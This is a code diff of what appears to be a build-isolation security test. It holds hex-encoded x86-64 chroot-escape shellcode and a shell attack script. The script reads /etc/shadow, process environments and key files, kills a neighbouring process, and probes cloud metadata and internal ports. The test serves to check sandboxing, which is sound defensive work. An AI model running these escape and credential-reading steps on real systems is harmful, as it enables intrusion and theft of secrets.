@@ -34,7 +34,11 @@ export const secrets = {
 const leave = smallProgram(
   amd64,
   Buffer.from(
-    '488b1c244c8d6424104c8d6cdc084983c508488d3d5c000000beed010000b8530000000f05488d3d49000000b8a10000000f05bd40000000488d3d3d000000b8500000000f05ffcd75ee488d3d2e000000b8a10000000f05498b3c244c89e64c89eab83b0000000f05bf61000000b83c0000000f052f746d702d78002e2e002e00',
+    [
+      '488b1c244c8d6424104c8d6cdc084983c508488d3d5c000000beed010000b8530000000f05488d3d49000000b8a10000000f',
+      '05bd40000000488d3d3d000000b8500000000f05ffcd75ee488d3d2e000000b8a10000000f05498b3c244c89e64c89eab83b',
+      '0000000f05bf61000000b83c0000000f052f746d702d78002e2e002e00',
+    ].join(''),
     'hex',
   ),
 );
@@ -43,7 +47,10 @@ const leave = smallProgram(
 export const deep = smallProgram(
   amd64,
   Buffer.from(
-    'bde8030000488d3d25000000bec0010000b8530000000f05488d3d12000000b8500000000f05ffcd75dbb8220000000f05616161616161616161616161616161616161616100',
+    [
+      'bde8030000488d3d25000000bec0010000b8530000000f05488d3d12000000b8500000000f05ffcd75dbb8220000000f0561',
+      '6161616161616161616161616161616161616100',
+    ].join(''),
     'hex',
   ),
 );
@@ -108,6 +115,13 @@ export const storage = () => [
   join(work.path, 'run'),
 ];
 
+/** What a step does that has left its `chroot`. */
+const outside = () => {
+  const keys = join(work.path, 'state', 'keys.json');
+  const files = [canary, keys, login, '/login/auth.json', '/etc/shadow', '/proc/*/environ'];
+  return `cat ${files.join(' ')}; id > ${join(work.path, 'owned')}; ls -la /`;
+};
+
 /**
  * Everything that is tried with what a step has: files, processes, ports and keys of the machine. Only this test's own
  * are aimed at: where a build is not kept apart, the attack succeeds, and a signal to all would end every process of
@@ -122,13 +136,15 @@ say() { echo "TRIED $1: $($B cat 2>&1 | $B head -c 2000)"; }
 echo "ATTACK BEGINS"
 $B cat ${canary} 2>&1 | say file
 $B cat ${join(work.path, 'state', 'keys.json')} 2>&1 | say keys
-/bin/leave /bin/sh -c 'cat ${canary} ${join(work.path, 'state', 'keys.json')} ${login} /login/auth.json /etc/shadow /proc/*/environ; id > ${join(work.path, 'owned')}; ls -la /' 2>&1 | say leave
+/bin/leave /bin/sh -c '${outside()}' 2>&1 | say leave
 /bin/leave /bin/busybox cat ${canary} 2>&1 | say leave-busybox
 for p in /proc/[0-9]*; do $B cat $p/root${canary} $p/root/login/auth.json $p/environ; done 2>&1 | say proc
 $B ps 2>&1 | say processes
 $B kill -9 ${neighbour.pid} 2>&1 | say kill
 $B ip addr 2>&1 | say network
-for at in 127.0.0.1 ${addresses().join(' ')} 10.0.2.2 169.254.169.254; do $B timeout 3 $B wget -q -O - http://$at:${canaryPort()}/; done 2>&1 | say port
+for at in 127.0.0.1 ${addresses().join(' ')} 10.0.2.2 169.254.169.254; do
+  $B timeout 3 $B wget -q -O - http://$at:${canaryPort()}/
+done 2>&1 | say port
 $B timeout 3 $B wget -q -O - http://${host}/v2/_catalog 2>&1 | say registry
 $B timeout 3 $B wget -q -O - http://169.254.169.254/metadata/instance 2>&1 | say metadata
 https_proxy= http_proxy=http://127.0.0.1:3128 $B timeout 3 $B wget -q -O - http://127.0.0.1:${canaryPort()}/ 2>&1 | say proxy
